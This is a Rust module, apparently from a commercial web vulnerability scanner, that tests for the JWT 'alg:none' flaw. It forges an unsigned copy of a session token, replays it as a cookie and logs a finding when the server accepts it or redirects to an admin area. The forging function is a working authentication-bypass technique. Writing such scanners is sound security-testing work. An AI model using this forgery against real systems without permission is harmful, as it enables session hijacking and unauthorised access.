// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - JWT alg:none Exploitation
 * Replays a session token re-issued with an unsigned "none" header
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use crate::errors::StoreError;
use crate::http_client::{FetchRequest, Fetcher};
use crate::recorder::FindingRecorder;
use crate::types::{Confidence, FindingOptions, FindingType, Severity};
use base64::{engine::general_purpose, Engine as _};
use serde_json::{json, Value};
use std::sync::Arc;
use tracing::{debug, info, warn};

/// Locations that mean the forged token reached an authenticated area
const PRIVILEGED_REDIRECTS: &[&str] = &["/dashboard", "/admin"];

pub struct JwtScanner {
    fetcher: Arc<dyn Fetcher>,
}

impl JwtScanner {
    pub fn new(fetcher: Arc<dyn Fetcher>) -> Self {
        Self { fetcher }
    }

    /// Replay `token` re-signed with `alg:none` as cookie `cookie_name`.
    ///
    /// Returns whether a finding was recorded. Undecodable tokens and failed
    /// requests are skipped without error.
    pub async fn attempt_jwt_exploitation(
        &self,
        token: &str,
        url: &str,
        cookie_name: &str,
        recorder: &FindingRecorder,
    ) -> Result<bool, StoreError> {
        let Some(forged) = forge_alg_none(token) else {
            debug!("[JWT] Token from {} is not a decodable JWT, skipping", url);
            return Ok(false);
        };

        debug!("[JWT] Testing alg:none bypass on {}", url);

        let request = FetchRequest::get(url).with_cookie(cookie_name, &forged);
        let response = match self.fetcher.fetch(request).await {
            Ok(r) => r,
            Err(e) => {
                warn!("[JWT] alg:none replay to {} failed: {:#}", url, e);
                return Ok(false);
            }
        };

        if response.is_success() {
            info!("[JWT] Unsigned token accepted at {}", url);
            return recorder
                .record(
                    FindingType::ImproperJwtHandling,
                    url,
                    format!(
                        "Server accepted an unsigned alg:none JWT in cookie '{}' (HTTP {})",
                        cookie_name, response.status_code
                    ),
                    FindingOptions::new(Confidence::High, Severity::High),
                )
                .await;
        }

        if response.status_code == 302 {
            let location = response.location().unwrap_or_default();
            let lower = location.to_lowercase();
            if PRIVILEGED_REDIRECTS.iter().any(|p| lower.contains(p)) {
                info!("[JWT] Unsigned token redirected to {}", location);
                return recorder
                    .record(
                        FindingType::ImproperJwtHandling,
                        url,
                        format!(
                            "Unsigned alg:none JWT in cookie '{}' was redirected to privileged area {}",
                            cookie_name, location
                        ),
                        FindingOptions::new(Confidence::High, Severity::Critical),
                    )
                    .await;
            }
        }

        Ok(false)
    }
}

fn decode_segment(segment: &str) -> Option<Vec<u8>> {
    general_purpose::URL_SAFE_NO_PAD
        .decode(segment.trim_end_matches('='))
        .ok()
}

/// Rebuild `token` as `base64url({"alg":"none","typ":"JWT"}).payload.`
///
/// The original payload claims are kept; signature is not verified.
pub fn forge_alg_none(token: &str) -> Option<String> {
    let mut parts = token.trim().split('.');
    let header = parts.next()?;
    let payload = parts.next()?;

    let header: Value = serde_json::from_slice(&decode_segment(header)?).ok()?;
    if !header.is_object() {
        return None;
    }
    let payload_bytes = decode_segment(payload)?;
    serde_json::from_slice::<Value>(&payload_bytes).ok()?;

    let none_header = json!({"alg": "none", "typ": "JWT"});
    let header_b64 = general_purpose::URL_SAFE_NO_PAD.encode(none_header.to_string());
    let payload_b64 = general_purpose::URL_SAFE_NO_PAD.encode(&payload_bytes);

    Some(format!("{}.{}.", header_b64, payload_b64))
}
